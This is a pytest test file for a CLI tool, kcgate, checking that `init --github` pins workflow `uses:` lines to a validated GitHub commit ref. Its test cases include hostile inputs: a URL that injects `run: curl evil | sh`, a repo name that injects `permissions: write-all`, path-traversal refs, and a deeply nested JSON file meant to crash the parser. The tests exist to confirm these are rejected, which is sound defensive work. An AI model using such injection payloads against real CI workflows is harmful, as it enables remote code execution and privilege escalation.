"""``kcgate init --github`` pins the action to a ref that exists: the GitHub commit this kcgate was installed
from (pip's PEP 610 direct_url.json), else the templates' release tag stays with its comment."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kcgate.adopt import scaffold
from tests.conftest import kcgate

SHA = "0123456789abcdef0123456789abcdef01234567"


def direct_url(url: str, commit: str = SHA, vcs: str = "git") -> str:
    return json.dumps(
        {"url": url, "vcs_info": {"vcs": vcs, "requested_revision": commit, "commit_id": commit}}
    )


@pytest.mark.parametrize(
    ("text", "ref"),
    [
        (direct_url("https://github.com/kcgate/kcgate"), f"kcgate/kcgate@{SHA}"),
        (direct_url("https://github.com/me/kcgate-fork.git"), f"me/kcgate-fork@{SHA}"),
        (direct_url("ssh://git@github.com/kcgate/kcgate.git"), f"kcgate/kcgate@{SHA}"),
        (direct_url("file:///home/me/kcgate"), None),  # a local clone: its commit may not be on GitHub
        (direct_url("https://gitlab.com/kcgate/kcgate"), None),
        (direct_url("https://github.com/kcgate/kcgate", commit="v0.1.0"), None),
        (direct_url("https://github.com/kcgate/kcgate", vcs="hg"), None),
        (direct_url("https://github.com/a/b\n  run: curl evil | sh"), None),
        (json.dumps({"url": "file:///home/me/kcgate", "dir_info": {"editable": True}}), None),
        ("not json", None),
        (None, None),
        (
            direct_url("https://github.com/../.."),
            None,
        ),  # D11: `uses: ../..@sha`, a path out of the repository
        (direct_url("https://github.com/kcgate/.."), None),
        (direct_url("git@github.com:-x/kcgate.git"), None),
        (direct_url("https://github.com/kcgate/.github"), f"kcgate/.github@{SHA}"),
        ("[" * 100_000 + "]" * 100_000, None),
    ],
)
def test_the_installed_commit_is_the_ref_only_when_it_is_on_github(text: str | None, ref: str | None) -> None:
    assert scaffold.installed_action_ref(text) == ref


def test_an_unusable_direct_url_says_why() -> None:
    ref, why = scaffold.action_ref("[" * 100_000 + "]" * 100_000)
    assert ref is None and "nested too deeply" in why
    ref, why = scaffold.action_ref(direct_url("https://github.com/../.."))
    assert ref is None and "not a GitHub owner/name at a 40-hex commit" in why
    assert scaffold.action_ref(direct_url("https://gitlab.com/a/b")) == (None, "")


def test_the_written_workflows_use_the_ref_in_every_uses_line() -> None:
    runners = [("cpu", ["ubuntu-latest"])]
    tagged = scaffold.render_workflows("acme/k", runners, scaffold.templates_dir())
    pinned = scaffold.render_workflows("acme/k", runners, scaffold.templates_dir(), f"kcgate/kcgate@{SHA}")
    for name, text in pinned.items():
        uses = [line for line in text.splitlines() if "kcgate/kcgate@" in line]
        assert uses and len(uses) == tagged[name].count("kcgate/kcgate@v0.1.0"), name
        assert all(f"kcgate/kcgate@{SHA}  # the commit this kcgate was installed from" in u for u in uses)
        assert "v0.1.0" not in text and text.replace(SHA, "") != text
    assert all("kcgate/kcgate@v0.1.0  # the tag the first release creates" in t for t in tagged.values())


def _installed_from(tmp_path: Path, text: str) -> dict[str, str]:
    """An environment whose kcgate metadata (found first on the path, as pip's install would be) holds
    ``text`` as its direct_url.json."""
    from tests.conftest import ROOT

    site = tmp_path / "site"
    info = site / "kcgate-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: kcgate\nVersion: 0.1.0\n")
    (info / "direct_url.json").write_text(text)
    (tmp_path / "repo").mkdir()
    return {"PYTHONPATH": f"{site}:{ROOT}"}


def test_init_github_pins_the_commit_of_a_git_install(tmp_path: Path) -> None:
    """A kcgate whose metadata says it came from github.com/kcgate/kcgate at SHA writes that ref; the log
    says which ref was written."""
    env = _installed_from(tmp_path, direct_url("https://github.com/kcgate/kcgate"))
    repo = tmp_path / "repo"
    proc = kcgate("init", "kcgate.kernels.builtin", "--github", "--no-run", cwd=repo, env=env)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"uses: kcgate/kcgate@{SHA} (the commit this kcgate was installed from)" in proc.stdout
    run = (repo / ".github" / "workflows" / "kcgate-run.yml").read_text()
    assert f"uses: kcgate/kcgate@{SHA}  #" in run and "@v0.1.0" not in run


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (direct_url("https://github.com/../.."), "not a GitHub owner/name"),
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ],
)
def test_init_github_refuses_a_forged_or_hostile_direct_url(tmp_path: Path, text: str, why: str) -> None:
    """D11: a forged URL never becomes ``uses: ../..@sha`` and a 100,000-deep file is no traceback; both
    keep the release tag and say why."""
    env = _installed_from(tmp_path, text)
    repo = tmp_path / "repo"
    proc = kcgate("init", "kcgate.kernels.builtin", "--github", "--no-run", cwd=repo, env=env)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert why in proc.stderr and "the workflows keep the release tag" in proc.stderr
    assert "Traceback" not in proc.stderr
    for name in ("kcgate-run.yml", "kcgate-report.yml"):
        text = (repo / ".github" / "workflows" / name).read_text()
        assert "../.." not in text and "kcgate/kcgate@v0.1.0" in text


@pytest.mark.parametrize("repo", ["acme/k\npermissions: write-all", "acme", "../..", "acme/..", "a/b c"])
def test_init_refuses_a_repo_that_is_not_owner_name_before_writing(tmp_path: Path, repo: str) -> None:
    """D11: ``--repo`` with a newline once added ``permissions: write-all`` to both workflows."""
    proc = kcgate("init", "kcgate.kernels.builtin", "--github", "--no-run", "--repo", repo, cwd=tmp_path)
    assert proc.returncode == 3, proc.stdout + proc.stderr
    assert "not a GitHub owner/name" in proc.stderr and "Traceback" not in proc.stderr
    assert list(tmp_path.iterdir()) == []
